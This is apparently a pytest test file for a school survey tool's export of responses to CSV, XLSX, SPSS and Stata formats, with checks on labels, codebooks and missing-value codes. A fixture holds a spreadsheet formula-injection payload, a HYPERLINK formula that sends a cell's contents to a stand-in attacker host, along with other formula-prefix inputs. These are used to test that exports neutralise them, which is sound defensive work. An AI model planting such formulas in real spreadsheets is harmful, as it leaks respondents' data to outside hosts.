"""Response exports opened with independent readers: csv, openpyxl, pyreadstat."""

from __future__ import annotations

import csv
import io
import math
from pathlib import Path

import openpyxl
import pyreadstat
import pytest

from exports.cells import cell_text, neutralise
from exports.csv_export import write_rows_csv
from exports.responses import FORMATS, codebook_path, export_bytes, export_responses
from surveys.instruments import Instrument, builtin_instruments, load_instrument_text
from surveys.responses.csv_format import CsvResponse, csv_columns, read_responses_csv

TOML = """
id = "eksport-test"
version = 2
audience = "pupil"
title = { da = "Eksporttest", en = "Export test" }
intro = { da = "Intro", en = "Intro" }

[[sections]]
id = "a"
title = { da = "A", en = "A" }

[[sections.questions]]
id = "hash"
type = "single"
sensitive = true
text = { da = "Har du prøvet hash? Et meget langt spørgsmål, der fylder mere end firs tegn i alt, så Stata må forkorte det", en = "Tried cannabis?" }
options = [{ code = 1, da = "Nej", en = "No" }, { code = 2, da = "Ja, én gang", en = "Yes, once" }]

[[sections.questions]]
id = "aendring"
type = "number"
min = -10
max = 10
text = { da = "Hvor meget har det ændret sig?", en = "How much has it changed?" }

[[sections.questions]]
id = "steder"
type = "multi"
text = { da = "Hvilke steder kender du?", en = "Which places do you know?" }
options = [{ code = 1, da = "UNG RUS", en = "UNG RUS" }, { code = 2, da = "headspace", en = "headspace" }]

[[sections.questions]]
id = "besked"
type = "text"
text = { da = "Besked", en = "Message" }
"""

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klik her")'


@pytest.fixture
def instrument() -> Instrument:
    return load_instrument_text(TOML, "eksport-test.toml")


@pytest.fixture
def records() -> list[CsvResponse]:
    return [
        CsvResponse(2025, "Nordstrand Skole", "8.a", 8, "da", {"hash": 2, "aendring": -3, "steder_1": 1, "steder_2": 0, "besked": HYPERLINK}),
        CsvResponse(2024, "@Bakkeskolen", "7.b", 7, "en", {"hash": 98, "aendring": 4, "besked": "+45 12 34 56 78"}),
        CsvResponse(2024, "Bakkeskolen", "", None, "da", {"besked": "Æbler, \"citat\"; og\nny linje – æøå"}),
    ]


def test_neutralise_only_touches_text() -> None:
    for risky in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise(risky) == "'" + risky
    assert neutralise("hej = dav") == "hej = dav"
    assert cell_text(-3) == "-3"
    assert cell_text(-2.5, decimal_comma=True) == "-2,5"
    assert cell_text(None) == ""
    assert cell_text("-3") == "'-3"


def test_csv_has_bom_import_columns_codes_and_inert_formulas(instrument, records, tmp_path: Path) -> None:
    result = export_responses(records, instrument, "csv", tmp_path / "svar.csv", level="raw")
    raw = result.path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0] == csv_columns(instrument)
    assert len(rows) == 4
    at = {name: i for i, name in enumerate(rows[0])}
    by = {(r[at["year"]], r[at["school"]]): r for r in rows[1:]}
    first, second, newest = by["2024", "Bakkeskolen"], by["2024", "'@Bakkeskolen"], by["2025", "Nordstrand Skole"]
    assert second[at["school"]] == "'@Bakkeskolen"
    assert second[at["hash"]] == "98" and second[at["aendring"]] == "4"
    assert second[at["besked"]] == "'+45 12 34 56 78"
    assert second[at["steder_1"]] == ""  # not answered is empty
    assert first[at["besked"]].startswith("Æbler") and "\n" in first[at["besked"]]
    assert newest[at["aendring"]] == "-3"  # a negative number stays a number
    assert newest[at["besked"]] == "'" + HYPERLINK
    assert newest[at["steder_1"]] == "1" and newest[at["steder_2"]] == "0"


def test_csv_round_trips_through_the_import_reader(instrument, records, tmp_path: Path) -> None:
    path = export_responses(records, instrument, "csv", tmp_path / "svar.csv", level="raw").path
    with path.open(encoding="utf-8", newline="") as handle:
        back = read_responses_csv(handle, instrument)
    key = lambda r: (r.year, r.school, r.class_name)  # noqa: E731
    assert sorted(back, key=key) == sorted(records, key=key)


def test_excel_da_uses_semicolons_and_decimal_commas(instrument, records, tmp_path: Path) -> None:
    path = export_responses(records, instrument, "csv", tmp_path / "svar.csv", excel_da=True, level="raw").path
    text = path.read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert rows[0] == csv_columns(instrument)
    assert all(len(r) == len(rows[0]) for r in rows)
    with path.open(encoding="utf-8", newline="") as handle:  # the import reads the Excel variant too
        assert len(read_responses_csv(handle, instrument)) == 3
    buffer = io.StringIO(newline="")
    write_rows_csv(buffer, ["andel", "n"], [[12.5, 40], [-0.25, 3]], excel_da=True)
    assert buffer.getvalue() == "\ufeffandel;n\r\n12,5;40\r\n-0,25;3\r\n"
    codebook = codebook_path(path).read_bytes().decode("utf-8-sig")
    assert codebook.splitlines()[0].startswith("variabel;spørgsmål_id;")


def test_xlsx_data_and_codebook_sheets(instrument, records, tmp_path: Path) -> None:
    path = export_responses(records, instrument, "xlsx", tmp_path / "svar.xlsx", level="raw").path
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Svar", "Kodebog"]
    sheet = book["Svar"]
    header = [c.value for c in sheet[1]]
    assert header == csv_columns(instrument)
    at = {name: i for i, name in enumerate(header)}
    rows = {(r[at["year"]].value, r[at["school"]].value): r for r in sheet.iter_rows(min_row=2)}
    newest = rows[(2025, "Nordstrand Skole")]
    assert newest[at["aendring"]].value == -3 and newest[at["aendring"]].data_type == "n"
    assert newest[at["hash"]].value == 2 and newest[at["hash"]].data_type == "n"
    cell = newest[at["besked"]]
    assert cell.data_type == "s" and cell.value == "'" + HYPERLINK
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    assert rows[(2024, "'@Bakkeskolen")][at["steder_1"]].value is None
    codebook = [[c.value for c in r] for r in book["Kodebog"].iter_rows()]
    assert codebook[0][:3] == ["variabel", "spørgsmål_id", "type"]
    hash_rows = [r for r in codebook if r[0] == "hash"]
    assert [(r[6], r[7]) for r in hash_rows] == [(1, "Nej"), (2, "Ja, én gang"), (98, "Vil ikke svare")]
    assert [r[4] for r in codebook if r[0] == "steder_2"][0] == "Hvilke steder kender du?: headspace"


def test_sav_has_variable_labels_value_labels_and_missing(instrument, records, tmp_path: Path) -> None:
    path = export_responses(records, instrument, "sav", tmp_path / "svar.sav", level="raw").path
    data, meta = pyreadstat.read_sav(str(path), user_missing=True)
    assert list(data.columns) == csv_columns(instrument)
    assert meta.column_names_to_labels["hash"].startswith("Har du prøvet hash?")
    assert meta.column_names_to_labels["year"] == "År"
    assert meta.variable_value_labels["hash"] == {1.0: "Nej", 2.0: "Ja, én gang", 98.0: "Vil ikke svare"}
    assert meta.variable_value_labels["steder_1"] == {0.0: "Ikke valgt", 1.0: "Valgt"}
    assert meta.missing_ranges["hash"] == [{"lo": 98.0, "hi": 98.0}]
    assert meta.variable_measure["aendring"] == "scale"
    by = {row["school"]: row for row in data.to_dict("records")}
    assert by["Nordstrand Skole"]["aendring"] == -3
    assert by["Nordstrand Skole"]["besked"] == HYPERLINK  # not a spreadsheet: text is kept as answered
    assert by["@Bakkeskolen"]["hash"] == 98
    assert math.isnan(by["@Bakkeskolen"]["steder_1"])
    assert by["@Bakkeskolen"]["year"] == 2024


def test_dta_has_labels_within_statas_limits(instrument, records, tmp_path: Path) -> None:
    path = export_responses(records, instrument, "dta", tmp_path / "svar.dta", level="raw").path
    data, meta = pyreadstat.read_dta(str(path))
    assert list(data.columns) == csv_columns(instrument)
    assert all(len(label or "") <= 80 for label in meta.column_labels)
    assert meta.column_names_to_labels["hash"].endswith("…")
    assert meta.column_names_to_labels["aendring"] == "Hvor meget har det ændret sig?"
    assert meta.variable_value_labels["hash"] == {1: "Nej", 2: "Ja, én gang", 98: "Vil ikke svare"}
    by = {row["school"]: row for row in data.to_dict("records")}
    assert by["Nordstrand Skole"]["aendring"] == -3
    assert by["@Bakkeskolen"]["besked"] == "+45 12 34 56 78"
    assert by["@Bakkeskolen"]["hash"] == 98


def test_codebook_beside_every_export(instrument, records, tmp_path: Path) -> None:
    for fmt in FORMATS:
        result = export_responses(records, instrument, fmt, tmp_path / fmt / f"svar.{fmt}", level="raw")
        assert result.codebook == tmp_path / fmt / "svar.kodebog.csv"
        rows = list(csv.reader(io.StringIO(result.codebook.read_bytes().decode("utf-8-sig"), newline="")))
        names = [r[0] for r in rows[1:]]
        assert names[:5] == ["year", "school", "class", "grade", "language"]
        assert [r[6:8] for r in rows if r[0] == "steder_1"] == [["0", "Ikke valgt"], ["1", "Valgt"]]
        assert any(r[0] == "besked" and r[2] == "tekst (text)" for r in rows)


@pytest.mark.parametrize("fmt", FORMATS)
def test_export_bytes_match_files(fmt: str, instrument, records) -> None:
    assert len(export_bytes(records, instrument, fmt, level="raw")) > 100


def test_builtin_instruments_export_to_spss_and_stata(tmp_path: Path) -> None:
    for instrument in builtin_instruments().values():
        record = CsvResponse(2025, "X", "", None, "da", {})
        for fmt in ("sav", "dta"):
            export_responses([record], instrument, fmt, tmp_path / f"{instrument.id}.{fmt}", level="raw")
